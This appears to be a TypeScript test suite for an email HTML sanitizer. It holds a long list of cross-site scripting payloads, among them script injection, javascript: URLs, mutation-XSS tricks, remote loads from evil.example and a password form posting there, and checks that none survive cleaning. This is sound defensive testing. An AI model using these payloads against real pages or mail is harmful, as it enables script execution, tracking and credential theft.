import assert from 'node:assert/strict'
import { test } from 'node:test'
import { assertLinear } from '../../../base/growth.suite.ts'
import { framePolicy, mailDocument } from './html.ts'
import { bodyOf, findingIn } from './html-rules.suite.ts'
import { DOT_PNG } from './mail-api.suite.ts'
import { safeStyle } from './style.ts'

const dot = { contentId: '<dot@x>', type: 'image/png', content: Buffer.from(DOT_PNG, 'base64') }
const vector = { contentId: '<svg@x>', type: 'image/svg+xml', content: Buffer.from('<svg onload=alert(1)>') }

function shown(html: string, images = false): string {
  return bodyOf(mailDocument({ html, attachments: [dot, vector], images }))
}

const VECTORS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<img """><script>alert(1)</script>">',
  '<img src="javascript:alert(1)">',
  '<img src=`javascript:alert(1)`>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<img src="cid:svg@x">',
  '<img srcset="https://evil.example/a.png 2x">',
  '<img src=//evil.example/pixel.gif>',
  '<img src="http://evil.example/pixel.gif">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate xlink:href=#a attributeName=href values=javascript:alert(1) /><a id=a>x</a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><a xlink:href="javascript:alert(1)">x</a></math>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="jav&#x0A;ascript:alert(1)">x</a>',
  '<a href="&#14; javascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="blob:https://x/1">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="/api/pause">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="https://a.example/&quot; onmouseover=&quot;alert(1)">x</a>',
  '<a href=https://a.example/ onclick=alert(1) style=color:red>x</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe><img src=x onerror=alert(1)></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code=x></applet>',
  '<form action="https://evil.example"><input type=password name=p><button formaction=javascript:alert(1)>Go</button></form>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"; body{background:url(javascript:alert(1))}</style>',
  '<style></style><script>alert(1)</script></style>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="background:url(https://evil.example/x.png)">x</div>',
  '<div style="background-image:\\75rl(https://evil.example/x.png)">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="-moz-binding:url(https://evil.example/x.xml#y)">x</div>',
  '<div style="behavior:url(x.htc)">x</div>',
  '<div style="background:image-set(\'https://evil.example/x.png\' 1x)">x</div>',
  '<div style="color:red;}</style><script>alert(1)</script>">x</div>',
  '<div style="position:fixed;top:0;left:0">x</div>',
  '<div style="content:\'&lt;script&gt;\'">x</div>',
  '<table background="javascript:alert(1)"><td background="https://evil.example/a.png">x</table>',
  '<video src=x onerror=alert(1)><source onerror=alert(1)></video>',
  '<audio autoplay onplay=alert(1)></audio>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<body onload=alert(1)>x</body>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '</textarea/><img src=x onerror=alert(1)>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<noembed><img src=x onerror=alert(1)></noembed>',
  '<noframes><img src=x onerror=alert(1)></noframes>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<title><img src=x onerror=alert(1)></title>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<p title="&lt;/p&gt;&lt;script&gt;alert(1)&lt;/script&gt;">x</p>',
  "<p title='\"><script>alert(1)</script>'>x</p>",
  '<a\u0000 href="java\u0000script:alert(1)">x</a>',
  '<IMG/SRC=x/ONERROR=alert(1)>',
  '<img/src="x"/onerror\u000c=alert(1)//',
  '<p/onclick=alert(1)//>x',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '<custom-element onclick=alert(1)>x</custom-element>',
  '<select><option><img src=x onerror=alert(1)></option></select>',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  '</body></html><script>alert(1)</script>',
  '<a href="https://x.example" target=_top rel=opener>x</a>',
  '<',
  '<a',
  '<a href="',
  '</',
  '<!--',
]

for (const images of [false, true]) {
  test(`known attacks leave nothing that could run or load, with images ${images ? 'on' : 'off'}`, () => {
    for (const html of VECTORS) {
      for (const wrapped of [html, `<div><table><tr><td>${html}</td></tr></table></div>`, `<p>${html}`]) {
        assert.equal(findingIn(shown(wrapped, images), { images }), undefined, wrapped)
      }
    }
  })
}

test('whatever goes in, nothing that could run or load comes out', () => {
  let seed = 42
  const random = (n: number): number => {
    seed = (Math.imul(seed, 1_664_525) + 1_013_904_223) >>> 0
    return Math.floor((seed / 2 ** 32) * n)
  }
  const pieces = [
    ...VECTORS,
    ...[
      '<',
      '>',
      '"',
      "'",
      '`',
      '/',
      '=',
      '&',
      ';',
      '\\',
      '\n',
      '\t',
      '\0',
      '\u000c',
      '\ud800',
      '-->',
      '<!--',
    ],
    ...[
      'style="',
      'href="',
      'src=',
      'onclick=',
      'url(',
      'https://e.example/',
      'javascript:',
      '&#x3c;',
      '&lt',
      '&#0;',
    ],
    ...[
      '<b>',
      '</b>',
      '<td>',
      '<table>',
      '</table>',
      '<svg>',
      '</svg>',
      '<math>',
      '<style>',
      '</style>',
      '<title>',
    ],
    ...[
      '</script>',
      '<script>',
      '<a ',
      '<img ',
      '<p style="color:',
      '<noscript>',
      '</noscript>',
      'text',
      ' ',
      '🦓',
    ],
  ]
  for (let turn = 0; turn < 6_000; turn++) {
    let html = ''
    for (let n = 1 + random(12); n > 0; n--) {
      const piece = pieces[random(pieces.length)]!
      const from = random(3) === 0 ? random(piece.length) : 0
      html += random(3) === 0 ? piece.slice(from, from + 1 + random(piece.length)) : piece
    }
    const images = turn % 2 === 0
    const body = shown(html, images)
    assert.equal(findingIn(body, { images }), undefined, JSON.stringify(html))
    // What was cleaned is clean: cleaning it again finds nothing, in whatever form a browser writes it back.
    assert.equal(findingIn(shown(body, images), { images }), undefined, JSON.stringify(html))
  }
})

test('the reader of these tests finds what it must find', () => {
  for (const bad of [
    ...[
      '<script>',
      '<img src="x">',
      '<a href="javascript:x">',
      '<p onclick="x">',
      '<svg>',
      'a > b',
      '<p',
      '<P>',
    ],
    ...[
      '<p style="background: url(&quot;https://x/&quot;)">',
      '<p style="width: expression(1)">',
      '<img src="https://x/">',
    ],
  ]) {
    assert.notEqual(findingIn(bad, { images: false }), undefined, bad)
  }
  assert.equal(findingIn('<p style="background: url(&quot;https://x/&quot;)">', { images: true }), undefined)
})

test('ordinary mail keeps its look: tables, styles, links and inline pictures', () => {
  const body = shown(
    '<table width="600" bgcolor="#ffffff"><tr><td style="color: #333; font-family: Arial, \'Open Sans\'; padding:4px 8px" align=center>' +
      '<a href="https://example.com/?a=1&amp;b=2">Go</a><img src="cid:dot@x" width=10 alt="dot"></td></tr></table>',
  )
  assert.match(body, /<table width="600" bgcolor="#ffffff">/)
  assert.match(body, /style="color: #333; font-family: Arial, 'Open Sans'; padding: 4px 8px"/)
  assert.match(body, /href="https:\/\/example.com\/\?a=1&amp;b=2" target="_blank" rel="noopener noreferrer"/)
  assert.ok(body.includes(`src="data:image/png;base64,${DOT_PNG}"`))
})

test('remote images are there only where they are wanted, and then by https', () => {
  const html =
    '<img src="https://x.example/a.png"><p style="background: #fff url(https://x.example/b.png)">x</p>'
  assert.doesNotMatch(shown(html), /x\.example/)
  assert.match(shown(html), /style="background: #fff"/)
  assert.match(shown(html, true), /src="https:\/\/x.example\/a.png"/)
  assert.match(shown(html, true), /background: #fff url\(&quot;https:\/\/x.example\/b.png&quot;\)/)
  assert.doesNotMatch(shown('<img src="http://x.example/a.png">', true), /x\.example/)
  assert.match(framePolicy(false), /img-src data:;/)
})

test('mail without colours of its own follows the page, other mail stays on white', () => {
  const scheme = (html: string): string | undefined =>
    /color-scheme: ([a-z ]+) }/.exec(mailDocument({ html, attachments: [], images: false }))?.[1]
  assert.equal(scheme('<p>plain</p>'), 'light dark')
  assert.equal(scheme('<p style="color: black">ink</p>'), 'light')
  assert.equal(scheme('<td bgcolor=white>x'), 'light')
})

test('huge and deep HTML is cut, and read in a time that grows no faster than it', () => {
  const cases: [times: number, make: (times: number) => string][] = [
    [600_000, (times) => '<b>'.repeat(times)],
    [300_000, (times) => '<img>'.repeat(times)],
    [80_000, (times) => '<div style="color:red;'.repeat(times)],
    [3_000_000, (times) => `<a href="${'x'.repeat(times)}">`],
    [3_000_000, (times) => '<'.repeat(times)],
    [500_000, (times) => `<p style="${'a:b;'.repeat(times)}">`],
    [100_000, (times) => '<table><tr><td>'.repeat(times)],
    [400_000, (times) => '<!--'.repeat(times)],
    [200_000, (times) => '<noscript>'.repeat(times)],
    [2_500_000, (times) => '&'.repeat(times)],
    [1_900_000, (times) => `<img src="data:image/png;base64,${'A'.repeat(times)}">`],
  ]
  for (const [sizeMax, make] of cases) {
    assertLinear({
      sizeMax,
      make,
      work: (html) => assert.equal(findingIn(shown(html), { images: false }), undefined, html.slice(0, 30)),
    })
  }
})

test('styles keep what is known and drop the rest', () => {
  const style = (text: string, images = false): string => safeStyle(text, { images })
  assert.equal(
    style('COLOR : Red ; margin-left:-4px!important; foo: bar'),
    'color: Red; margin-left: -4px!important',
  )
  assert.equal(
    style('background: url("https://x/a;b.png") #fff; color: blue'),
    'background: #fff; color: blue',
  )
  assert.equal(
    style('width: calc(100% - 4px); height: attr(x); border: 1px solid rgb(1, 2, 3)'),
    'width: calc(100% - 4px); border: 1px solid rgb(1, 2, 3)',
  )
  assert.equal(style("font-family: 'a; color: red"), '')
  assert.equal(style('position: fixed; z-index: 9; content: "x"'), '')
})

test('so many tags that are never closed are not read to their end, and what is closed or needs no end is', () => {
  for (const tag of ['<b>', '<div>', '<xx>', '<a href="https://x.example/">', '<b></i>']) {
    const body = shown(`begin${tag.repeat(15_000)}end`)
    assert.match(body, /begin/, tag)
    if (tag === '<b></i>') continue
    assert.doesNotMatch(body, /end/, tag)
    assert.match(body, /too long to be shown here/, tag)
  }
  for (const tag of ['<br>', '<p>', '<li>', '<tr><td>', '<b>x</b>', '<IMG>']) {
    const body = shown(`begin${tag.repeat(10_000)}end`)
    assert.match(body, /end/, tag)
    assert.doesNotMatch(body, /too long/, tag)
  }
})
